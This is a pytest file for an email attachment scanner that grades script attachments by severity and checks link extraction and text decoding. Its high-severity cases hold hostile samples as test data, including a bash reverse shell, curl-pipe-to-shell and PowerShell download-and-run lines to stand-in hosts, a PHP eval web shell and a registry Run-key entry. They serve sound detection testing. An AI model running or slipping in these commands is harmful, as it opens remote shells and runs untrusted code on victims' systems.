import pytest

from sekisho.mail.finding import Severity
from sekisho.mail.opened import OpenLimits
from sekisho.parse.unpack.active.scripts import open_script, script_text
from sekisho.parse.unpack.opening import Budget, Opening


def opened(kind, text, depth=0):
    content = text if isinstance(text, bytes) else text.encode()
    opening = Opening(content, "file", budget=Budget(OpenLimits()), depth=depth)
    opening.kind = kind
    open_script(opening)
    assert [f.rule for f in opening.findings] == ["attachment/script"]
    return opening


def severity(kind, text, depth=0):
    return opened(kind, text, depth).findings[0].severity


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("shell", "#!/bin/sh\nset -e\ntar czf /tmp/a.tgz /home\n"),
        ("python", "import base64, subprocess\nsubprocess.run(['ls'])\nprint(base64.b64decode('aGk='))\n"),
        ("perl", "use strict; print qx(ls);"),
        ("php", "<?php echo htmlspecialchars($_GET['q']); ?>"),
        ("javascript", "document.addEventListener('load', () => console.log('hi'))"),
        ("javascript", "const fs = require('fs'); module.exports = { run() {} }"),
        # What jQuery did for Internet Explorer.
        ("javascript", "window.x = function () { return new ActiveXObject('Microsoft.XMLHTTP'); }"),
        ("inf", '[Version]\nSignature="$Windows NT$"\n[DefaultInstall]\nCopyFiles=a\n'),
    ],
)
def test_source_code_is_low(kind, text):
    assert severity(kind, text) is Severity.LOW


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("batch", "@echo off\r\ncopy a.txt b.txt\r\n"),
        ("powershell", "Get-ChildItem | Sort-Object Length\n"),
        ("vbscript", 'MsgBox "hello"\n'),
        ("javascript", "var a = 1;\nvar b = a + 2;\n"),
        ("javascript", 'WScript.Echo("hello");'),
        ("wsf", '<job><script language="VBScript">MsgBox 1</script></job>'),
        ("reg", 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Example]\n"a"="b"\n'),
        ("scf", "[Shell]\nCommand=2\nIconFile=explorer.exe,3\n"),
    ],
)  # fmt: skip
def test_what_windows_runs_is_medium(kind, text):
    assert severity(kind, text) is Severity.MEDIUM


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("vbscript", b"#@~^AAAAAA==whatever"),
        ("batch", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        ("powershell", "iex (iwr http://a.example/x)"),
        ("javascript", 's=new ActiveXObject("WScript.Shell");h=new ActiveXObject("MSXML2.XMLHTTP")'),
        ("javascript", "".join(f"var _0x{n:04x}=_0x{n + 1:04x};" for n in range(200))),
        ("hta", "<html><script>alert(1)</script></html>"),
        ("sct", "<scriptlet><registration/></scriptlet>"),
        ("reg", "Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\Windows\\CurrentVersion\\Run]\n"),
        ("scf", "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\share\\a.ico\n"),
        ("inf", "[autorun]\nopen=setup.exe\n"),
        ("inf", "[Version]\n[DefaultInstall]\nRunPreSetupCommands=x\n"),
        ("php", "<?php eval($_POST['x']); ?>"),
        ("shell", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
        ("shell", "curl -s http://a.example/i | sh"),
        ("applescript", 'do shell script "curl http://a.example/i | sh"'),
    ],
)  # fmt: skip
def test_what_downloads_or_hides_is_high(kind, text):
    assert severity(kind, text) is Severity.HIGH


def test_an_installer_in_a_source_archive_is_not_alarming():
    assert severity("shell", "curl -sSf https://a.example/install.sh | sh", depth=1) is Severity.MEDIUM


def test_text_and_addresses_also_of_what_is_encoded():
    opening = opened(
        "batch", "rem http://a.example/1\r\npowershell -enc aAB0AHQAcAA6AC8ALwBiAC4AZQB4AGEAbQBwAGwAZQAvADIA0A=="
    )
    assert {link.url for link in opening.links} >= {"http://a.example/1"}
    assert any("b.example/2" in link.url for link in opening.links)
    assert opening.texts[0].text.startswith("rem http")


@pytest.mark.parametrize(
    "content",
    [
        "給与".encode("utf-16"),
        "\ufeff給与".encode(),
        "echo 給与".encode("utf-16-le"),
        "給与の一覧を表示します。".encode("cp932"),
    ],
)
def test_encodings(content):
    assert "給与" in script_text(content)
